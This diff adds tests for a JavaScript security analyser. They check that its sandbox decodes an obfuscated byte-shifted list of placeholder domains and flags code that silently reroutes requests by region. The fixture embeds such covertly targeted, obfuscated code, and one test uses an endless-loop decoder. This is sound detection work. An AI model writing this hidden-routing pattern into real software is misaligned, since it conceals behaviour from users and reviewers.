@@ -1,0 +1,44 @@
+// A decoder no static rule understands (a byte shift) is run alone in the QuickJS sandbox, and what
+// it returns is analysed like any decoded data.
+import { test, after } from 'node:test';
+import assert from 'node:assert/strict';
+import { analyzeJs, analyzeJsWithSandbox } from '../../src/analyze/analyze-file.js';
+import { createSandbox } from '../../src/decode/sandbox.js';
+
+const sandbox = createSandbox();
+after(() => sandbox.dispose());
+
+const LIST = 'relay.example.cn,gw.example.ir,mirror.example.ru';
+const SHIFT = 7;
+const packed = Buffer.from(Buffer.from(LIST).map((b) => (b + SHIFT) % 256)).toString('base64');
+
+const code = `
+const SHIFT = ${SHIFT};
+function unshift(s) { const t = atob(s); let o = ""; for (let i = 0; i < t.length; i++) o += String.fromCharCode((t.charCodeAt(i) + 256 - SHIFT) % 256); return o.split(","); }
+const BLOCKED = unshift("${packed}");
+function host() { try { return new URL(process.env.TOOL_API_URL).hostname; } catch { return ""; } }
+export function send(body) {
+  const h = host();
+  const listed = BLOCKED.some((d) => h.endsWith(d));
+  const url = listed ? "https://alt.example.com/v1" : "https://api.example.com/v1";
+  return fetch(url, { method: "POST", body });
+}`;
+
+test('without the sandbox the list stays opaque', () => {
+  const r = analyzeJs('t.js', code, { maxAstDepth: 500 });
+  assert.ok(!r.findings.some((f) => f.decoded.some((d) => d.text.includes('example.cn'))));
+});
+
+test('with the sandbox the extracted decoder recovers the list and the targeting is found', async () => {
+  const r = await analyzeJsWithSandbox('t.js', code, { maxAstDepth: 500 }, sandbox.evalDecoder);
+  const f = r.findings.find((x) => x.ruleId === 'region-targeting');
+  assert.ok(f, JSON.stringify(r.findings.map((x) => x.ruleId)));
+  assert.equal(f.severity, 'high');
+  assert.deepEqual(f.decoded.map((d) => [d.encoding, d.text]), [['sandbox(unshift)', LIST.split(',').join(',')]]);
+});
+
+test('a hostile decoder (endless loop) is stopped and the audit goes on', async () => {
+  const hostile = code.replace('return o.split(",");', 'while (true) {}');
+  const r = await analyzeJsWithSandbox('t.js', hostile, { maxAstDepth: 500 }, sandbox.evalDecoder);
+  assert.ok(!r.findings.some((f) => f.ruleId === 'region-targeting'));
+});
